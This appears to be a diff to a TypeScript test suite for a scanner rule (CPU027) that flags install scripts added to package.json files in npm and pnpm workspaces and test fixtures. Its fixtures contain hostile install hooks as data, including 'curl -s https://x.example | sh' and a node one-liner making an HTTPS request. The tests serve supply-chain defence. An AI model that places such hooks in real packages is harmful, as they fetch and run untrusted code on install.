@@ -38,8 +38,8 @@ interface Case {
   /** Evidence `before` / `after` of the first finding, when given. */
   sides?: [string, string];
   workTree?: true;
-  /** The level of every finding, when not error; a warning passes the `any` gate. */
-  level?: 'warning';
+  /** The level of every finding, when not error; a warning or a note passes the `any` gate. */
+  level?: 'warning' | 'note';
 }
 
 const cases: Case[] = [
@@ -124,12 +124,41 @@ const cases: Case[] = [
   },
   {
     name: 'the root package.json gains a postinstall, a workspace a prepare → one CPU027 each',
-    base: { 'package.json': pkg({ scripts: { test: 'vitest' } }), 'packages/lib/package.json': pkg({}) },
+    base: {
+      'package.json': pkg({ workspaces: ['packages/*'], scripts: { test: 'vitest' } }),
+      'packages/lib/package.json': pkg({}),
+    },
     head: {
-      'package.json': pkg({ scripts: { test: 'vitest', postinstall: "node -e \"require('https').get('x')\"" } }),
+      'package.json': pkg({
+        workspaces: ['packages/*'],
+        scripts: { test: 'vitest', postinstall: "node -e \"require('https').get('x')\"" },
+      }),
       'packages/lib/package.json': pkg({ scripts: { prepare: 'sh ./setup.sh' } }),
     },
-    want: ['CPU027@package.json:9', 'CPU027@packages/lib/package.json:8'],
+    want: ['CPU027@package.json:12', 'CPU027@packages/lib/package.json:8'],
+  },
+  {
+    name: 'a pnpm workspace package and a folder with its own lockfile gain install scripts → CPU027 each',
+    base: {
+      'pnpm-workspace.yaml': "packages:\n  - 'apps/**'\n  - '!apps/skip'\n",
+      'apps/web/package.json': pkg({}),
+      'tools/gen/package.json': pkg({}),
+      'tools/gen/package-lock.json': '{"lockfileVersion": 3, "packages": {}}\n',
+    },
+    head: {
+      'apps/web/package.json': pkg({ scripts: { preinstall: 'curl -s https://x.example | sh' } }),
+      'tools/gen/package.json': pkg({ scripts: { postinstall: 'node fetch.js' } }),
+    },
+    want: ['CPU027@apps/web/package.json:8', 'CPU027@tools/gen/package.json:8'],
+  },
+  {
+    name: 'a test fixture package.json (no lockfile, no workspace) gains a postinstall → CPU027 as a note only',
+    base: { 'package.json': pkg({}), 'test/fixtures/app/package.json': pkg({}), 'apps/skip/package.json': pkg({}) },
+    head: {
+      'test/fixtures/app/package.json': pkg({ scripts: { postinstall: 'node evil.js' } }),
+    },
+    want: ['CPU027@test/fixtures/app/package.json:8'],
+    level: 'note',
   },
   {
     name: 'a non-install script changed → nothing',
@@ -246,7 +275,7 @@ describe('review reports what the change makes the install do', () => {
     const found = r.findings.filter((f) => WATCH.test(f.ruleId));
     expect(found.map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 1}`).sort()).toEqual(want);
     expect(found.map((f) => f.level)).toEqual(want.map(() => level));
-    expect(r.gate?.passed).toBe(want.length === 0 || level === 'warning');
+    expect(r.gate?.passed).toBe(want.length === 0 || level !== 'error');
     if (sides) expect([found[0]?.evidence?.['before'], found[0]?.evidence?.['after']]).toEqual(sides);
   });
 });
